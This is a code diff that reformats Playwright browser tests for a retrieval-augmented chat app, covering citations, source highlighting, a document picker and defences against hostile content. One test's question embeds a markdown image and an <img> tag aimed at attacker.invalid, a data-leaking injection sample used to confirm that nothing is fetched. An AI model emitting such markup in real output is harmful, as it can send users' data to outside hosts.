@@ -26,8 +26,13 @@ def test_question_answer_citation_and_highlighted_source(browser, ready_settings
         bot = page.locator("#chat .message.bot, #chat [data-testid='bot']").last
         answer = bot.inner_text()
         assert "1997" in answer, answer
-        cited = {int(n) for group in re.findall(r"\[(\d+(?:\s*[,;]\s*\d+)*)\]", answer) for n in re.split(r"[,;]", group)}
-        cards = {int(i.removeprefix("source-")) for i in page.locator("#sources .source").evaluate_all("els => els.map(e => e.id)")}
+        cited = {
+            int(n) for group in re.findall(r"\[(\d+(?:\s*[,;]\s*\d+)*)\]", answer) for n in re.split(r"[,;]", group)
+        }
+        cards = {
+            int(i.removeprefix("source-"))
+            for i in page.locator("#sources .source").evaluate_all("els => els.map(e => e.id)")
+        }
         assert cited, f"no citation marker in the answer: {answer!r}"
         assert cited == cards, f"markers {sorted(cited)} in the answer, source cards {sorted(cards)} in the panel"
         for n in cited:
@@ -57,7 +62,10 @@ def test_hostile_content_is_inert_in_the_browser(browser, tmp_path, embedder):
     try:
         page = browser.new_page()
         page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
-        page.on("request", lambda r: outside.append(r.url) if not r.url.startswith(("http://127.0.0.1", "data:", "blob:")) else None)
+        page.on(
+            "request",
+            lambda r: outside.append(r.url) if not r.url.startswith(("http://127.0.0.1", "data:", "blob:")) else None,
+        )
         ask_in_browser(page, url, "How many mines did the clearance unit clear that week?")
         page.wait_for_selector("#sources h3:has-text('Sources') ~ .source", timeout=60_000)
         page.wait_for_timeout(1000)
@@ -72,14 +80,19 @@ def test_hostile_content_is_inert_in_the_browser(browser, tmp_path, embedder):
 def test_the_users_own_message_is_plain_text_and_fetches_nothing(browser, ready_settings, embedder):
     """Markdown or HTML typed into the question is shown as typed; the browser requests nothing outside 127.0.0.1,
     and the follow-up's history reaches the server as typed."""
-    model = ReplayChatModel(["It was signed in 1997 [1].", "How many countries have joined the Ottawa Convention?", "164 countries [1]."])
+    model = ReplayChatModel(
+        ["It was signed in 1997 [1].", "How many countries have joined the Ottawa Convention?", "164 countries [1]."]
+    )
     engine = rag.Engine(ready_settings.model_copy(update={"llm_backend": "local"}), embedder=embedder, llm=model)
     url = serve(engine)
     question = "When was the Ottawa Convention signed? ![s](http://attacker.invalid/?q=x) <img src=http://attacker.invalid/y> **bold**"
     outside = []
     try:
         page = browser.new_page()
-        page.on("request", lambda r: outside.append(r.url) if not r.url.startswith(("http://127.0.0.1", "data:", "blob:")) else None)
+        page.on(
+            "request",
+            lambda r: outside.append(r.url) if not r.url.startswith(("http://127.0.0.1", "data:", "blob:")) else None,
+        )
         ask_in_browser(page, url, question)
         page.wait_for_selector("#sources h3:has-text('Sources') ~ .source", timeout=60_000)
         page.wait_for_timeout(1000)
@@ -93,14 +106,19 @@ def test_the_users_own_message_is_plain_text_and_fetches_nothing(browser, ready_
         page.wait_for_selector("#chat .message.bot >> text=164", timeout=60_000)
         assert outside == [], outside
         condense_prompt = model.calls[1][-1].content
-        assert "User: When was the Ottawa Convention signed? ![s](http://attacker.invalid/?q=x) <img src=" in condense_prompt
+        assert (
+            "User: When was the Ottawa Convention signed? ![s](http://attacker.invalid/?q=x) <img src="
+            in condense_prompt
+        )
     finally:
         ui_serve.close_all()
 
 
 def test_the_document_picker_keeps_the_answer_to_the_chosen_document(browser, ready_settings, embedder):
     """Choose one article in the chat's settings: the sources the answer shows all come from it."""
-    engine = rag.Engine(ready_settings.model_copy(update={"llm_backend": "local"}), embedder=embedder, llm=ScriptedChatModel())
+    engine = rag.Engine(
+        ready_settings.model_copy(update={"llm_backend": "local"}), embedder=embedder, llm=ScriptedChatModel()
+    )
     titles = {d["source"]: d["title"] for d in engine.admin.documents()}
     question = "How long is Finland's border with Russia?"
     url = serve(engine)
@@ -128,7 +146,9 @@ def test_the_chat_answers_with_the_whole_corpus_in_view_and_shows_the_cited_pass
     """#27: with the documents fitting the model's context, the page says it reads them whole, the model is shown
     every document, and the sources panel shows the passages the checked answer cites, quote highlighted."""
     model = ReplayChatModel(["The Ottawa Convention was signed in 1997 [2]."])  # a wrong number: the check moves it
-    engine = rag.Engine(ready_settings.model_copy(update={"llm_backend": "local", "answer_mode": "auto"}), embedder=embedder, llm=model)
+    engine = rag.Engine(
+        ready_settings.model_copy(update={"llm_backend": "local", "answer_mode": "auto"}), embedder=embedder, llm=model
+    )
     url = serve(engine)
     try:
         page = browser.new_page(viewport={"width": 1400, "height": 900})
@@ -139,7 +159,10 @@ def test_the_chat_answers_with_the_whole_corpus_in_view_and_shows_the_cited_pass
         assert all(c.text.split(". ")[-1][:50] in prompt for c in engine.docs.chunks()), "every document was in view"
         answer = page.locator("#chat .message.bot, #chat [data-testid='bot']").last.inner_text()
         cited = {int(n) for n in re.findall(r"\[(\d+)\]", answer)}
-        cards = {int(i.removeprefix("source-")) for i in page.locator("#sources .source").evaluate_all("els => els.map(e => e.id)")}
+        cards = {
+            int(i.removeprefix("source-"))
+            for i in page.locator("#sources .source").evaluate_all("els => els.map(e => e.id)")
+        }
         assert "1997" in answer and cited and cited == cards, (answer, cards)
         (n,) = cited
         assert "1997" in page.locator(f"#sources #source-{n} mark").first.inner_text()
